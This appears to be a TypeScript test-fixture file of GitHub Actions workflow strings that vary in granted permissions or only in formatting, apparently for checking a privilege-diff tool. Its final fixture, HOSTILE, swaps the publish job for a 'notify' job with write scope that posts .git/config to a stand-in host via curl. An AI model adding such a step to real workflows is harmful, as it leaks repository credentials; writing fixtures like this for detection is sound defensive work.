/** Workflow files that differ by what they grant, or only by how they are written. */

export const RELEASE = `name: release
on:
  push:
    tags: ["v*"]
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
  publish:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - run: make publish
`;

export const RAISED = RELEASE.replace("contents: read", "contents: write");

export const REFORMATTED = `# The same, in another hand.
"on": { push: { tags: [v*] } }
permissions: { contents: read }
jobs:
  publish: { permissions: { contents: write }, steps: [{ run: make publish }], runs-on: ubuntu-latest }

  build:
    steps: [{ run: "make" }]
    runs-on: 'ubuntu-latest'
`;

const PUBLISH = RELEASE.slice(RELEASE.indexOf("  publish:"));

/** `publish` went to a file of its own, which the same event starts. */
export const WITHOUT_PUBLISH = RELEASE.replace(PUBLISH, "");
export const PUBLISH_ALONE =
  WITHOUT_PUBLISH.slice(0, WITHOUT_PUBLISH.indexOf("  build:")) + PUBLISH;

/** The harmless job is gone; another one holds the same scope. */
export const HOSTILE = RELEASE.replace(
  PUBLISH,
  PUBLISH.replace("publish:", "notify:").replace(
    "make publish",
    "curl -d @.git/config evil.example",
  ),
);
